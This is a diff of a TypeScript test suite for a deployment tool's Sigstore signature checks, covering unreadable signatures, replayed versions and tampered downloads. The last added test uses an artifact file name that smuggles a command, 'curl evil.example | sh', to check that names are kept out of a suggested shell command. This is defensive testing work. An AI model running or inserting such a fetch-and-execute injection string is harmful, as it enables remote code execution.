@@ -33,7 +33,7 @@ async function running(mode: "rules" | "auto", courier?: Courier): Promise<Runni
     ...{ courier: opened, host, signers },
     poll: ({ flags = [], ...options } = {}) => host.poll({ ...options, flags: [...own, ...flags] }),
   };
-  opened.publish("v1.0.0", await release("v1.0.0", scene));
+  await opened.publish("v1.0.0", await release("v1.0.0", scene));
   await scene.poll();
   expect(await host.live()).toBe("v1.0.0");
   return scene;
@@ -60,7 +60,7 @@ function failing(courier: Courier, name: string, status: number): void {
 describe.each(["rules", "auto"] as const)("a signature that cannot be read, with %s", (mode) => {
   test.each([404, 403, 500, 429])("because the server answers %i, is not one", async (status) => {
     const scene = await running(mode);
-    scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
+    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
     const { fetch } = scene.courier;
     failing(scene.courier, BUNDLE, status);
     await refused(scene, new RegExp(`Cannot verify "${ARTIFACT}" of v1\\.1\\.0.*${status}`));
@@ -72,7 +72,7 @@ describe.each(["rules", "auto"] as const)("a signature that cannot be read, with
   test("because it is too large, is not one", async () => {
     const scene = await running(mode);
     const files = await release("v1.1.0", scene);
-    scene.courier.publish("v1.1.0", { ...files, [BUNDLE]: " ".repeat(5 * 2 ** 20) });
+    await scene.courier.publish("v1.1.0", { ...files, [BUNDLE]: " ".repeat(5 * 2 ** 20) });
     await refused(scene, /v1\.1\.0.*more than/);
   });
 });
@@ -82,15 +82,15 @@ describe("auto, once a signer is known", () => {
 
   test("refuses a version without a signature, until an operator accepts it", async () => {
     const scene = await running("auto");
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("v1.1.0") });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("v1.1.0") });
     await refused(scene, /no sigstore signature.*release\.yml.*dewy trust accept v1\.1\.0/);
     await scene.host.changeState((state) => acceptTag(state, "v1.1.0", { user: "alice" }, 0));
     await scene.poll();
     expect(await scene.host.live()).toBe("v1.1.0");
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: await evil() });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await evil() });
     await scene.poll({ flags: ["--accept-changed", "v1.1.0"] });
     expect(await scene.host.live()).toBe("v1.1.0");
-    scene.courier.publish("v1.2.0", { [ARTIFACT]: await evil() });
+    await scene.courier.publish("v1.2.0", { [ARTIFACT]: await evil() });
     expect((await scene.poll()).reasons).toMatch(/no sigstore signature/);
     expect(await scene.host.live()).toBe("v1.1.0");
   });
@@ -101,23 +101,23 @@ describe("auto, once a signer is known", () => {
     const repository = "https://github.com/mallory/app";
     const subject = `${repository}/.github/workflows/release.yml@refs/tags/v1.1.0`;
     const signed = await signers.ours.signFile(bytes, { subject, repository });
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: bytes, [BUNDLE]: JSON.stringify(signed) });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: bytes, [BUNDLE]: JSON.stringify(signed) });
     await refused(
       scene,
       /is signed by https:\/\/github\.com\/mallory.*acme.*trust accept v1\.1\.0/,
     );
     const wrong = JSON.stringify(await signers.ours.signFile("other"));
     const files = { [ARTIFACT]: bytes, [`${ARTIFACT}.sigstore`]: wrong };
-    scene.courier.publish("v1.1.0", { ...files, [BUNDLE]: JSON.stringify(signed) });
+    await scene.courier.publish("v1.1.0", { ...files, [BUNDLE]: JSON.stringify(signed) });
     await refused(scene, /v1\.1\.0/);
   });
 
   test("refuses an earlier version that is published again", async () => {
     const scene = await running("auto");
     const old = await release("v1.0.0", scene);
-    scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
+    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
     await scene.poll();
-    scene.courier.publish("v1.2.0", old);
+    await scene.courier.publish("v1.2.0", old);
     const { reasons } = await scene.poll();
     expect(reasons).toMatch(/it is v1\.0\.0 again.*dewy trust accept v1\.2\.0/);
     expect(await scene.host.live()).toBe("v1.1.0");
@@ -152,7 +152,7 @@ describe("a signed checksum file", () => {
     const text = sums(sha256Hex(artifact));
     const signed = JSON.stringify(await signers.ours.signFile(text));
     const files = { [ARTIFACT]: artifact, SHA256SUMS: text, "SHA256SUMS.sigstore.json": signed };
-    scene.courier.publish("v1.1.0", files);
+    await scene.courier.publish("v1.1.0", files);
     await refused(scene, /v1\.1\.0 with sigstore: SHA256SUMS: it (?:does not list|has several)/);
   });
 
@@ -161,7 +161,7 @@ describe("a signed checksum file", () => {
     const text = `${sha256Hex(await makeArtifact("v1.0.0"))}  ${ARTIFACT}\n`;
     const signed = JSON.stringify(await signers.ours.signFile(text));
     const files = { SHA256SUMS: text, "SHA256SUMS.sigstore.json": signed };
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil"), ...files });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil"), ...files });
     await refused(scene, /SHA256SUMS: it has another digest/);
   });
 
@@ -174,7 +174,7 @@ describe("a signed checksum file", () => {
       [`decoy-${index}.sigstore.json`, bundle],
     ]).flat();
     const files = { [ARTIFACT]: await makeArtifact("evil"), ...Object.fromEntries(decoys) };
-    scene.courier.publish("v1.1.0", files);
+    await scene.courier.publish("v1.1.0", files);
     const { events } = await scene.poll();
     expect(events.filter(({ type }) => type === "request").length).toBeLessThan(40);
     expect(await scene.host.live()).toBe("v1.0.0");
@@ -184,7 +184,7 @@ describe("a signed checksum file", () => {
 describe("what is on the disk", () => {
   test("is not extracted if the download is changed after it was verified", async () => {
     const scene = await running("rules");
-    scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
+    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
     const evil = await makeArtifact("evil");
     const cache = join(scene.host.root, ".dewy", "cache");
     const before = await scene.host.releases();
@@ -202,7 +202,7 @@ describe("what is on the disk", () => {
 
   test("is verified if it was staged without a policy", async () => {
     const scene = await running("rules");
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
     await scene.host.poll({ flags: ["--verify", "none", "--dry-run"] });
     expect(await scene.host.releases()).toHaveLength(2);
     await refused(scene, /v1\.1\.0.*has no Sigstore bundle/);
@@ -210,7 +210,7 @@ describe("what is on the disk", () => {
 
   test("is verified if it was staged under another policy", async () => {
     const scene = await running("rules");
-    scene.courier.publish("v1.1.0", {
+    await scene.courier.publish("v1.1.0", {
       [ARTIFACT]: await makeArtifact("evil"),
       SHA256SUMS: `${sha256Hex(await makeArtifact("evil"))}  ${ARTIFACT}\n`,
     });
@@ -222,16 +222,16 @@ describe("what is on the disk", () => {
   test("and lost is not what explicit rules rely on", async () => {
     const scene = await running("rules");
     await rm(statePath(scene.host.root));
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
     await refused(scene, /v1\.1\.0.*has no Sigstore bundle/);
   });
 
   test("is verified after a restart between the verification and the activation", async () => {
     const scene = await running("rules");
-    scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
+    await scene.courier.publish("v1.1.0", await release("v1.1.0", scene));
     await scene.poll({ flags: ["--before-deploy-hook", "exit 1"] });
     expect(await scene.host.live()).toBe("v1.0.0");
-    scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
+    await scene.courier.publish("v1.1.0", { [ARTIFACT]: await makeArtifact("evil") });
     await scene.poll();
     expect(await scene.host.live()).toBe("v1.0.0");
   });
@@ -239,8 +239,19 @@ describe("what is on the disk", () => {
 
 test("--accept-changed accepts other bytes, but not without a signature", async () => {
   const scene = await running("rules");
-  scene.courier.publish("v1.0.0", { [ARTIFACT]: await makeArtifact("evil") });
+  await scene.courier.publish("v1.0.0", { [ARTIFACT]: await makeArtifact("evil") });
   const { reasons } = await scene.poll({ flags: ["--accept-changed", "v1.0.0"] });
   expect(reasons).toMatch(/v1\.0\.0 with sigstore: the release has no Sigstore bundle/);
   expect(await scene.host.live()).toBe("v1.0.0");
+});
+
+test("the name of an artifact is not part of a command that is to be pasted into a shell", async () => {
+  const courier = await COURIERS.file();
+  courier.url += "?artifact=*.gz";
+  const host = await machine(courier);
+  await courier.publish("v1.0.0", { "app; curl evil.example | sh;.gz": "evil" });
+  const { reasons } = await host.poll({ flags: await policy(signers) });
+  expect(reasons).toMatch(
+    /sign it in CI: cosign sign-blob --yes --bundle FILE\.sigstore\.json FILE$/,
+  );
 });
